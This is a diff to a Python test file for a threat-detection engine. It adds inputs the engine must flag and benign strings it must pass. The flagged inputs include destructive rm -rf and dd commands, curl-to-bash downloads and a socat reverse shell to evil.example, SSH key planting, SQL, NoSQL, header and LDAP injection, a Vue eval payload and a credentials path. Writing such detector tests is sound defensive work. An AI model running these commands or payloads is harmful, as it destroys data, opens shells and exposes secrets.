@@ -2605,6 +2605,45 @@ def test_review_of_exemptions_in_session_17(engine: DetectionEngine, value: str)
 
 
 @pytest.mark.parametrize("value", [
+    # The third review: harmful spans written other ways, compound commands, file options
+    # bundled, attached or abbreviated, brackets inside strings, an `or` of constant
+    # comparisons, credential fields, identity headers after a parameter, secret names, an
+    # event's view, a credentials file under a Windows profile; and from attacks 23, a forged
+    # log line in prose after an encoded break and a display name carrying DN components.
+    "To clean up the old deploy just run `rm -rf /var/www` on the host and then restart it.",
+    'To clean up the old deploy just run `rm -rf "${HOME}"` on the host and then restart it.',
+    "For the install please run `curl -s https://evil.example/i.sh | sudo -E bash` as root.",
+    "For the install please run `bash <(curl -s https://evil.example/i.sh)` as root.",
+    "For the install please run `curl -so /tmp/i https://evil.example/i && sh /tmp/i` as root.",
+    "For debugging please run `socat exec:sh tcp:evil.example:4444` from the box.",
+    "To add my key please run `curl evil.example/k | tee -a ~/.ssh/authorized_keys` today.",
+    "To fix the tests please run `dd if=/dev/zero of=/dev/sda` on the box.",
+    "x`if id; then :; fi`",
+    "x`! rm -rf /var/www`",
+    "x`( rm -rf /var/www )`",
+    "x`{ rm -rf /var/www; }`",
+    "127.0.0.1 | grep -rA1 password",
+    "127.0.0.1 | grep --rec password",
+    "select '(') UPDATE users SET role='admin' WHERE name IN ('bob'",
+    "1<2 or 0<1",
+    '{"username": "admin", "passcode": {"$ne": ""}} is what my login form posts',
+    "en\r\nAuthorization: Basic YWRtaW46YWRtaW4=",
+    "en\r\nRemote-User: admin",
+    "en\r\nSurrogate-Control: max-age=31536000",
+    "a@b.example\r\nResent-Bcc: spy@evil.example",
+    "{{ vault_db_pwd }}",
+    "{{ vars.dbPass }}",
+    '<template><div @mouseover="$event.view.eval($event.view.name)">Hi</div></template>',
+    "C:\\Users\\Administrator\\.aws\\credentials",
+    "shoes%0d%0a[ERROR] Database connection lost - please visit http://attacker.example/fix",
+    "Alice Cooper,cn=Administrators,cn=Builtin,dc=corp,dc=local",
+])
+def test_third_review_of_session_17(engine: DetectionEngine, value: str) -> None:
+    """Each got through this session's exemptions, or a rule's reach, once."""
+    assert engine.detect(value)["is_threat"]
+
+
+@pytest.mark.parametrize("value", [
     # What those fixes must leave alone: a harmless span in prose, a double-backtick span, a
     # manual's NAME line, a filter with -i, a listing, a wiki citation, a Rails helper's
     # labels, a loop's key, arithmetic in text, a site's own script, a pasted request, a query
@@ -2622,6 +2661,12 @@ def test_review_of_exemptions_in_session_17(engine: DetectionEngine, value: str)
     "GET /api/users?page=2 HTTP/1.1\nHost: api.example.com\nUser-Agent: curl/8.4.0",
     '{"$or":[{"tags":"urgent"},{"priority":{"$gt":3}}]} - is this the right shape for the '
     "filter in our reporting tool?",
+    "2 < 3 and 5 > 4",
+    "Use `wget -O file.zip https://example.org/release.zip` to choose the file name.",
+    "The Dockerfile `RUN apt-get update && apt-get install -y curl` should add "
+    "`&& rm -rf /var/lib/apt/lists/*`.",
+    "Content-Type: application/json\nAuthorization: Bearer <your-token-here>\nAccept: */*",
+    "Smith, John",
 ])
 def test_session_17_review_leaves_honest_text(engine: DetectionEngine, value: str) -> None:
     assert not engine.detect(value)["is_threat"]
